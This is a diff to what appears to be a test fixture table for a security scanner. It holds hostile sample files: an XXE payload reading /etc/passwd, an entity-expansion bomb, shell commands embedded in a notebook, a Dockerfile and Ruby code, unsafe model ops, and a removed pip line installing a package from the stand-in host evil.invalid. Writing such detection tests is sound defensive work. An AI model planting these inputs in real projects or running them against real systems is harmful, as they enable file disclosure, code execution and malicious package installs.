@@ -129,7 +129,6 @@ CONFIGURATIONS = {
     "x.xml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
     "x.pmml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"bbb\"><!ENTITY c \"&b;&b;\">]><PMML>&c;</PMML>",
     "x.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!id"]}]}), "Dockerfile": "FROM x\nRUN id\n", "x.rb": "system(\"id\")\n",
-    "conda.yaml": "dependencies:\n - pip:\n   - evil\n", "requirements.txt": "--index-url http://evil.invalid\nevil\n",
     "x.pbtxt": "node { name: \"a\" op: \"PyFunc\" }\n", "x.onnxtxt": "<ir_version: 7, opset_import: [\"evil\":1]>\n",
     "hubconf.py": "import os\n", "handler.py": "import os\n", ".gitattributes": "* filter=evil\n",
 }
